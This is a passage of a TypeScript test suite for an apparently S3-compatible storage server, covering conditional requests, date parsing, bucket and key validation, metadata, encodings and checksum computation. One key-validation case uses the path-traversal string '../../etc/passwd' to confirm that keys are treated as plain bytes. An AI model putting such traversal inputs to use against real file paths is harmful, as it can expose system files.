      const got = evaluateConditions(h, obj, method);
      assert.equal(got.ok ? 200 : got.status, want, `${method} ${name}`);
    }
  }
  // The stored ETag may be unquoted too.
  assert.deepEqual(evaluateConditions({ ifMatch: '"abc"' }, { ...obj, etag: "abc" }, "GET"), {
    ok: true,
  });
});

test("copy-source conditions fail with 412, never 304", () => {
  assert.deepEqual(evaluateCopySourceConditions({ ifNoneMatch: '"abc"' }, obj), {
    ok: false,
    status: 412,
  });
  assert.deepEqual(evaluateCopySourceConditions({ ifModifiedSince: AFTER }, obj), {
    ok: false,
    status: 412,
  });
  assert.deepEqual(
    evaluateCopySourceConditions({ ifMatch: "abc", ifUnmodifiedSince: BEFORE }, obj),
    { ok: true },
  );
});

test("conditional writes: If-None-Match * and If-Match as S3 implements them", () => {
  const code = (
    h: Parameters<typeof evaluateWriteConditions>[0],
    cur: { etag: string } | undefined,
  ) => {
    const r = evaluateWriteConditions(h, cur);
    return r.ok ? "ok" : `${r.error.status} ${r.error.code}`;
  };
  const cur = { etag: '"abc"' };
  assert.equal(code({}, cur), "ok");
  assert.equal(code({}, undefined), "ok");
  assert.equal(code({ ifNoneMatch: "*" }, undefined), "ok");
  assert.equal(code({ ifNoneMatch: "*" }, cur), "412 PreconditionFailed");
  assert.equal(code({ ifMatch: '"abc"' }, cur), "ok");
  assert.equal(code({ ifMatch: "abc" }, cur), "ok");
  assert.equal(code({ ifMatch: '"x"' }, cur), "412 PreconditionFailed");
  assert.equal(code({ ifMatch: '"abc"' }, undefined), "404 NoSuchKey");
  assert.equal(code({ ifMatch: "*" }, cur), "ok");
  assert.equal(code({ ifMatch: "*" }, undefined), "404 NoSuchKey");
  assert.equal(code({ ifNoneMatch: '"abc"' }, cur), "501 NotImplemented");
  assert.equal(code({ ifNoneMatch: '"abc"' }, undefined), "501 NotImplemented");
});

test("dates: HTTP-date formats in, IMF-fixdate and ISO 8601 out", () => {
  const t = Date.UTC(1994, 10, 6, 8, 49, 37);
  assert.equal(parseHttpDate("Sun, 06 Nov 1994 08:49:37 GMT"), t);
  assert.equal(parseHttpDate("Sunday, 06-Nov-94 08:49:37 GMT"), t);
  assert.equal(parseHttpDate("Sun Nov  6 08:49:37 1994"), t);
  assert.equal(parseHttpDate("1994-11-06T08:49:37Z"), t);
  assert.equal(parseHttpDate("1994-11-06T08:49:37.250Z"), t + 250);
  assert.equal(parseHttpDate("Sun, 06 Nov 1994 10:49:37 +0200"), t);
  for (const bad of [
    "",
    "1",
    "yesterday",
    "Sun, 31 Feb 1994 08:49:37 GMT",
    "Sun, 06 Foo 1994 08:49:37 GMT",
  ]) {
    assert.equal(parseHttpDate(bad), undefined, bad);
  }
  assert.equal(httpDate(t), "Sun, 06 Nov 1994 08:49:37 GMT");
  assert.equal(isoDate(Date.UTC(2006, 1, 3, 16, 45, 9)), "2006-02-03T16:45:09.000Z");
  fc.assert(
    fc.property(fc.integer({ min: 0, max: 253402300799 }), (s) => {
      assert.equal(parseHttpDate(httpDate(s * 1000)), s * 1000);
      assert.equal(parseHttpDate(isoDate(s * 1000)), s * 1000);
    }),
  );
});

// ---------------------------------------------------------------------------------------------
// Names, metadata, encodings

test("bucket names: AWS's examples and rules", () => {
  for (const ok of [
    "docexamplebucket1",
    "log-delivery-march-2020",
    "my-hosted-content",
    "docexamplewebsite.com",
    "www.docexamplewebsite.com",
    "my.example.s3.bucket",
    "abc",
    "1bucket",
    "a".repeat(63),
    "192.168.5.4x",
    "a-b--c",
  ]) {
    assert.equal(validateBucketName(ok), undefined, ok);
  }
  for (const bad of [
    "doc_example_bucket",
    "DocExampleBucket",
    "doc-example-bucket-",
    "-bucket",
    ".bucket",
    "bucket.",
    "ab",
    "a".repeat(64),
    "example..com",
    "foo-.bar",
    "foo.-bar",
    "192.168.5.4",
    "xn--bucket",
    "sthree-bucket",
    "sthree-configurator",
    "amzn-s3-demo-bucket",
    "bucket-s3alias",
    "bucket--ol-s3",
    "bucket.mrap",
    "bucket--x-s3",
    "bucket--table-s3",
    "my bucket",
    "bücket",
    "",
  ]) {
    assert.equal(validateBucketName(bad)?.code, "InvalidBucketName", bad);
  }
});

test("object keys: 1..1024 UTF-8 bytes, no NUL, no lone surrogate; ../ is just bytes", () => {
  for (const ok of [
    "a",
    "../../etc/passwd",
    "/leading//double/",
    "x".repeat(1024),
    "é".repeat(512),
    "😀",
    " ",
    "\u0001\r\n",
  ]) {
    assert.equal(validateObjectKey(ok), undefined, JSON.stringify(ok));
  }
  assert.equal(validateObjectKey("x".repeat(1025))?.code, "KeyTooLongError");
  assert.equal(validateObjectKey("é".repeat(513))?.code, "KeyTooLongError");
  assert.equal(validateObjectKey("a\u0000b")?.code, "InvalidArgument");
  assert.equal(validateObjectKey("a\ud800")?.code, "InvalidArgument");
  assert.equal(validateObjectKey("\udc00a")?.code, "InvalidArgument");
  assert.equal(validateObjectKey("")?.code, "InvalidArgument");
});

test("user metadata and stored headers", () => {
  const meta = collectUserMetadata({
    "x-amz-meta-color": "blue",
    "X-Amz-Meta-Size": ["1", "2"],
    "content-type": "text/plain",
    "x-amz-meta-": "ignored",
  });
  assert.deepEqual(meta, { "x-amz-meta-color": "blue", "x-amz-meta-size": "1,2" });
  // 2 KiB: names without the prefix plus values.
  assert.ok(!(collectUserMetadata({ "x-amz-meta-k": "v".repeat(2047) }) instanceof S3Error));
  const big = collectUserMetadata({ "x-amz-meta-k": "v".repeat(2048) });
  assert.ok(big instanceof S3Error && big.code === "MetadataTooLarge");

  assert.deepEqual(
    storedHeaders({
      "content-type": "image/png",
      "content-encoding": "aws-chunked",
      "cache-control": "max-age=60",
      expires: "Thu, 01 Dec 1994 16:00:00 GMT",
      "content-disposition": 'attachment; filename="a.png"',
      "content-language": "en",
      "x-amz-meta-a": "b",
      authorization: "secret",
    }),
    {
      "content-type": "image/png",
      "cache-control": "max-age=60",
      expires: "Thu, 01 Dec 1994 16:00:00 GMT",
      "content-disposition": 'attachment; filename="a.png"',
      "content-language": "en",
    },
  );
  assert.deepEqual(storedHeaders({ "content-encoding": "aws-chunked,gzip" }), {
    "content-encoding": "gzip",
  });
});

test("encoding-type=url: S3's form (s3-tests' cases), read back by decodeURIComponent", () => {
  assert.equal(encodeS3Url("asdf+b"), "asdf%2Bb");
  assert.equal(encodeS3Url("foo+1/"), "foo%2B1/");
  assert.equal(encodeS3Url("quux ab/"), "quux%20ab/");
  assert.equal(encodeS3Url("a-b_c.d~e/f"), "a-b_c.d~e/f");
  assert.equal(encodeS3Url("é\u0001*"), "%C3%A9%01%2A");
  fc.assert(
    fc.property(anyKey, (k) => {
      const e = encodeS3Url(k);
      assert.match(e, /^[A-Za-z0-9._~/%-]*$/);
      assert.equal(decodeURIComponent(e), k);
    }),
  );
});

test("continuation tokens: opaque round trip, anything else InvalidArgument", () => {
  fc.assert(
    fc.property(fc.string({ unit: "binary", maxLength: 300 }), (k) => {
      fc.pre(!/[\ud800-\udfff]/u.test(k));
      const t = encodeToken(k);
      assert.match(t, /^[A-Za-z0-9_-]+$/);
      assert.equal(decodeToken(t), k);
    }),
  );
  for (const bad of [
    "",
    "!!!",
    "AA",
    "abc=",
    Buffer.from([2, 97]).toString("base64url"),
    Buffer.from([1, 0xff]).toString("base64url"),
  ]) {
    const r = decodeToken(bad);
    assert.ok(r instanceof S3Error && r.code === "InvalidArgument", bad);
  }
});

// ---------------------------------------------------------------------------------------------
// Checksums

/** Bit-at-a-time reference CRCs (reflected, init and xorout all ones). */
function refCrc(width: 32 | 64, poly: bigint, data: Uint8Array): bigint {
  const mask = (1n << BigInt(width)) - 1n;
  let c = mask;
  for (const b of data) {
    c ^= BigInt(b);
    for (let k = 0; k < 8; k++) c = c & 1n ? (c >> 1n) ^ poly : c >> 1n;
  }
  return c ^ mask;
}

test("CRC check values and AWS's base64 forms", () => {
  const check = Buffer.from("123456789");
  assert.equal(crc32(check), 0xcbf43926);
  assert.equal(crc32c(check), 0xe3069283);
  assert.equal(crc64nvme(check), 0xae8b14860a799888n);
  assert.equal(checksumOf("CRC32", check), "y/Q5Jg==");
  assert.equal(checksumOf("CRC32C", check), "4waSgw==");
  assert.equal(checksumOf("CRC64NVME", check), "rosUhgp5mIg=");
  assert.equal(checksumOf("CRC32", new Uint8Array()), "AAAAAA==");
  assert.equal(
    checksumOf("SHA256", new Uint8Array()),
    "47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=",
  );
  assert.equal(checksumOf("SHA1", new Uint8Array()), "2jmj7l5rSw0yVb/vlWAYkK/YBwk=");
  assert.equal(checksumOf("MD5", new Uint8Array()), "1B2M2Y8AsgTpgAmY7PhCfg==");
});

test("CRCs equal the bitwise reference, and incremental equals one-shot", () => {
  const algos: [ChecksumAlgorithm, 32 | 64, bigint][] = [
    ["CRC32", 32, 0xedb88320n],
    ["CRC32C", 32, 0x82f63b78n],
    ["CRC64NVME", 64, 0x9a6c9329ac4bc9b5n],
  ];
  fc.assert(
    fc.property(
      fc.uint8Array({ maxLength: 300 }),
      fc.array(fc.nat({ max: 300 }), { maxLength: 6 }),
      (data, cuts) => {
        const points = [...new Set(cuts.map((c) => Math.min(c, data.length)))].sort(
          (a, b) => a - b,
        );
        for (const [algo, width, poly] of algos) {
          const want = refCrc(width, poly, data);
          const h = createHasher(algo);
          let prev = 0;
          let chained32 = 0;
          let chained64 = 0n;
          for (const p of [...points, data.length]) {
            const piece = data.subarray(prev, p);
            h.update(piece);
            if (algo === "CRC32") chained32 = crc32(piece, chained32);
            if (algo === "CRC32C") chained32 = crc32c(piece, chained32);
            if (algo === "CRC64NVME") chained64 = crc64nvme(piece, chained64);
            prev = p;
          }
          assert.equal(BigInt(`0x${h.digest().toString("hex")}`), want, algo);
          if (width === 32) assert.equal(BigInt(chained32), want, algo);
          else assert.equal(chained64, want, algo);
        }
      },
    ),
  );
});

test("CRC combination: the full-object CRC from the parts' CRCs equals the CRC of the whole", () => {
  const toBig = (algo: ChecksumAlgorithm, d: Uint8Array) =>
    BigInt(`0x${Buffer.from(checksumOf(algo, d), "base64").toString("hex")}`);
  fc.assert(
    fc.property(
      fc.array(fc.uint8Array({ maxLength: 200 }), { minLength: 1, maxLength: 6 }),
      (parts) => {
        const whole = Buffer.concat(parts);
        for (const algo of ["CRC32", "CRC32C", "CRC64NVME"] as const) {
          const full = fullObjectChecksum(
            algo,
            parts.map((p) => ({ checksum: checksumOf(algo, p), size: p.length })),
          );
          assert.equal(full, checksumOf(algo, whole), algo);
          const [a, b] = [parts[0] ?? new Uint8Array(), parts[1] ?? new Uint8Array()];
          assert.equal(
            combineCrc(algo, toBig(algo, a), toBig(algo, b), b.length),
            toBig(algo, Buffer.concat([a, b])),
          );
        }
      },
    ),
  );
});

test("multipart ETag and composite checksums", () => {
  const parts = [Buffer.from("part one"), Buffer.from("part two")];
  const md5s = parts.map((p) => createHash("md5").update(p).digest());
  const want = `${createHash("md5").update(Buffer.concat(md5s)).digest("hex")}-2`;
  assert.equal(multipartEtag(md5s), want);
  assert.equal(multipartEtag(md5s.map((m) => `"${m.toString("hex")}"`)), want);
  const sha = parts.map((p) => checksumOf("SHA256", p));
  const composite = createHash("sha256")
    .update(Buffer.concat(sha.map((s) => Buffer.from(s, "base64"))))
    .digest("base64");
  assert.equal(compositeChecksum("SHA256", sha), `${composite}-2`);
  const crcs = parts.map((p) => checksumOf("CRC32", p));
  assert.equal(
    compositeChecksum("CRC32", crcs),
    `${checksumOf("CRC32", Buffer.concat(crcs.map((c) => Buffer.from(c, "base64"))))}-2`,
  );
});

test("checksum headers: one algorithm, well-formed values, trailers, Content-MD5", () => {
  const ok = (h: Record<string, string>) => {
    const r = parseChecksumHeaders(h);
    assert.ok(!(r instanceof S3Error), r instanceof S3Error ? r.message : "");
    return r;
  };
  const err = (h: Record<string, string>) => {
    const r = parseChecksumHeaders(h);
    assert.ok(r instanceof S3Error, JSON.stringify(h));
    return `${r.code}: ${r.message}`;
  };
  assert.deepEqual(ok({}), { algorithms: [] });
  assert.deepEqual(ok({ "x-amz-checksum-crc32": "y/Q5Jg==" }), {
    algorithms: ["CRC32"],
    algorithm: "CRC32",
    expected: "y/Q5Jg==",
  });
  assert.deepEqual(
    ok({ "x-amz-sdk-checksum-algorithm": "crc32c", "x-amz-trailer": "x-amz-checksum-crc32c" }),
    { algorithms: ["CRC32C"], algorithm: "CRC32C", trailer: "CRC32C" },
  );
  assert.deepEqual(
    ok({ "x-amz-checksum-algorithm": "SHA256", "x-amz-checksum-type": "composite" }),
    {
      algorithms: ["SHA256"],
      algorithm: "SHA256",
      type: "COMPOSITE",
    },
  );
  assert.equal(ok({ "content-md5": "1B2M2Y8AsgTpgAmY7PhCfg==" }).contentMd5?.length, 16);
  assert.match(
    err({ "x-amz-checksum-crc32": "nope" }),
    /^InvalidRequest: Value for x-amz-checksum-crc32 header is invalid\.$/,
  );
  assert.match(err({ "x-amz-checksum-crc32": "AAAAAAAAAAA=" }), /^InvalidRequest/);
  assert.match(
    err({
      "x-amz-checksum-crc32": "y/Q5Jg==",
      "x-amz-checksum-sha1": "2jmj7l5rSw0yVb/vlWAYkK/YBwk=",
    }),
    /^InvalidRequest: Expecting a single/,
  );
  assert.match(
    err({ "x-amz-sdk-checksum-algorithm": "MD4" }),
    /^InvalidRequest: Checksum algorithm provided is unsupported/,
  );
  assert.match(
    err({ "x-amz-sdk-checksum-algorithm": "SHA1", "x-amz-checksum-crc32": "y/Q5Jg==" }),
    /^InvalidRequest/,
  );
  assert.match(err({ "x-amz-trailer": "x-amz-checksum-md4" }), /^InvalidRequest/);
  assert.match(
    err({ "x-amz-checksum-algorithm": "CRC32", "x-amz-checksum-type": "PARTIAL" }),
    /^InvalidRequest/,
  );
  assert.match(err({ "content-md5": "abc" }), /^InvalidDigest/);
  assert.match(err({ "content-md5": "AAAA" }), /^InvalidDigest/);

  assert.equal(parseContentMd5(undefined), undefined);
  assert.ok(parseContentMd5("1B2M2Y8AsgTpgAmY7PhCfg==") instanceof Buffer);
});

test("BodyDigests: streaming digests and verification against headers and trailers", () => {
  const data = Buffer.from("123456789");
  const run = (h: Record<string, string>, trailers?: Map<string, string>, chunks = [data]) => {
    const asked = parseChecksumHeaders(h);
    assert.ok(!(asked instanceof S3Error));
    const d = new BodyDigests(asked.algorithms);
    for (const c of chunks) d.update(c);
    return { d, result: d.verify(asked, trailers) };
  };
  const plain = run({});
  assert.deepEqual(plain.result, {});
  assert.equal(plain.d.md5Hex, createHash("md5").update(data).digest("hex"));
  assert.equal(plain.d.bytes, 9);

  const split = [data.subarray(0, 4), data.subarray(4)];
  assert.deepEqual(run({ "x-amz-checksum-crc32c": "4waSgw==" }, undefined, split).result, {
    crc32c: "4waSgw==",
  });
  const bad = run({ "x-amz-checksum-crc32c": "AAAAAA==" }).result;
  assert.ok(bad instanceof S3Error && bad.code === "BadDigest");
  assert.match(bad.message, /The CRC32C you specified did not match the calculated checksum/);

  const trailer = { "x-amz-trailer": "x-amz-checksum-crc32" };
  assert.deepEqual(run(trailer, new Map([["X-Amz-Checksum-Crc32", "y/Q5Jg=="]])).result, {
    crc32: "y/Q5Jg==",
  });
  const wrong = run(trailer, new Map([["x-amz-checksum-crc32", "AAAAAA=="]])).result;
  assert.ok(wrong instanceof S3Error && wrong.code === "BadDigest");
  const missing = run(trailer, new Map()).result;
  assert.ok(missing instanceof S3Error && missing.code === "InvalidRequest");

  // Only an algorithm named: computed and returned, nothing to compare.
  assert.deepEqual(run({ "x-amz-sdk-checksum-algorithm": "SHA256" }).result, {
    sha256: checksumOf("SHA256", data),
  });
  const md5ok = run({ "content-md5": createHash("md5").update(data).digest("base64") }).result;
  assert.deepEqual(md5ok, {});
  const md5bad = run({ "content-md5": "1B2M2Y8AsgTpgAmY7PhCfg==" }).result;
  assert.ok(md5bad instanceof S3Error && md5bad.code === "BadDigest");

  const d = new BodyDigests(["CRC64NVME", "SHA1"]);
  d.update(data);
  assert.deepEqual(d.digest(), { CRC64NVME: "rosUhgp5mIg=", SHA1: checksumOf("SHA1", data) });
  assert.throws(() => d.update(data));
});
